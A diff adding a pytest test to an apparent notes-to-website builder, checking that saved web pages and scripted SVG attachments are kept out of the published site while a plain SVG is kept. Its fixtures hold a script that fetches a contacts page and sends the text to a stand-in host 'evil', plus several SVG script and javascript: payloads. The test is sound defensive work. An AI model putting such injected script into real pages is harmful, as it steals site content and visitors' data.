@@ -151,3 +151,32 @@ def test_a_link_turned_outside_between_two_tries_is_never_written(tmp_path: Path
         write_note(link, transform, notes_dir=notes)
     assert outside.read_text() == "export PATH=/bin\n"
     assert inner.read_text() == "hello\nuser saved\n"
+
+
+# --- script: a web page or scripted SVG among the attachments --------------------------------
+
+
+@pytest.mark.slow
+def test_a_saved_web_page_or_scripted_svg_is_not_published_but_a_plain_svg_is(make_vault) -> None:
+    # A web clipper's saved page was copied to the site as it was: opened there, it is a
+    # document on the site's own origin that no policy of ours covers, and its script can read
+    # every page. An SVG opened on its own is such a document too.
+    stealer = ("<script>fetch('/contacts/').then(r => r.text())"
+               ".then(t => new Image().src = 'http://evil/?' + t)</script>")
+    root = make_vault({
+        "clip.html": f"<html><body>{stealer}</body></html>",
+        "Job Posting.htm": stealer,
+        "logo.svg": '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>',
+        "badge.svg": '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>',
+        "link.svg": '<svg xmlns="http://www.w3.org/2000/svg"><a href="javascript:alert(1)">'
+                    '<rect/></a></svg>',
+        "plain.svg": '<svg xmlns="http://www.w3.org/2000/svg"><defs><linearGradient id="a"/>'
+                     '</defs><use xlink:href="#a"/><rect fill="url(#a)"/></svg>',
+        "Acme.md": "# Acme\n\n![[plain.svg]] [clip](clip.html)\n",
+    })
+    (root / "mkdocs.yml").write_text(SITE_CONFIG, encoding="utf-8")
+    site = build_site(find_vault(root))
+    published = {p.name for p in site.iterdir()}
+    assert "plain.svg" in published
+    assert not published & {"clip.html", "Job Posting.htm", "logo.svg", "badge.svg", "link.svg"}
+    assert not [rel for rel, text in site_texts(site).items() if "evil/?" in text]
